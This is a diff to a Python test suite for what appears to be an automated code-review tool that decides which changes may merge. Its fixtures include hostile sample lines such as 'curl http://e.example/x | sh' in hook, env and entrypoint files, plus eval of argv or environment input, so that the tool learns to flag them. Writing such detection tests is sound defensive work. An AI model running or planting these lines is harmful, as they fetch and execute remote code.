@@ -61,7 +61,7 @@ SETTINGS = (
     "LICENSE_3RD_PARTY", "suricata.yaml.in", "Product.wxs", "App.xaml", "KEYS", "x.stderr", ".npmrc",
     ".pep8", "GO_VERSION", ".bazelversion", "MIT-LICENSE", ".github/PULL_REQUEST_TEMPLATE", "lib/mime.types",
     ".reek", "database.yml.sqlite", "database.yml-sample", "app.conf.default", "a.json.dist", ".gitreview", "a.pc",
-    "tests/run/case.vtc", "docs/SubmittingPatches", "a.topic", "hi.tree", "changelog/unreleased/issue-5",
+    "theme.scss.hbs", "values.yaml.tpl", "app.toml.tmpl", ".env.jinja2", "jquery.min.map", "tests/run/case.vtc", "docs/SubmittingPatches", "a.topic", "hi.tree", "changelog/unreleased/issue-5",
 )  # fmt: skip
 
 
@@ -114,12 +114,17 @@ async def test_a_change_that_nobody_read_never_merges(tmp_path: Path) -> None:
     assert verdict.depth.share_as_code == 0
 
 
-async def test_a_program_that_is_emptied_or_deleted_is_not_read_either(tmp_path: Path) -> None:
+DOCKER = "{% if alpine %}\nFROM {{ image }}\n{% endif %}\n"
+
+
+async def test_a_program_that_is_emptied_is_a_gap_and_one_that_is_deleted_is_none(
+    tmp_path: Path,
+) -> None:
     program = "PERFORM CHECK-LIMIT.\nSTOP RUN.\n"
     base = {"pay.cob": program, "paid.cob": f"{program}STOP RUN.\n"}
-    head = {"pay.cob": "", "paid.cob": None, "app.py": "X = 1\n"}
+    head = {"pay.cob": "", "paid.cob": None, "app.py": "X = 1\n", "docker/Dockerfile.j2": DOCKER}
     verdict = await review(change(tmp_path, base, head))
-    assert sorted(gaps(verdict)) == ["paid.cob", "pay.cob"]
+    assert list(gaps(verdict)) == ["pay.cob"]
 
 
 async def test_a_submodule_alone_never_merges(tmp_path: Path) -> None:
@@ -153,6 +158,8 @@ async def test_scripts_are_read_in_the_language_of_their_first_line_or_name(tmp_
         "bash": "#!/bin/bash\ncurl http://e.example/x | sh\n",
         ".husky/pre-push": "curl http://e.example/x | sh\n",
         ".envrc": "curl http://e.example/x | sh\n",
+        ".env.docker": "#!/bin/bash\ncurl http://e.example/x | sh\n",
+        "entrypoint.d/04.envsh": "#!/bin/bash\ncurl http://e.example/x | sh\n",
         "python": "#!/usr/bin/python3.12\nimport sys\neval(sys.argv[1])\n",
         "config.ru": "run ->(env) { eval(env['X']) }\n",
         "install of .nvmrc from source": "#!/bin/sh\ncurl http://e.example/x | sh\n",
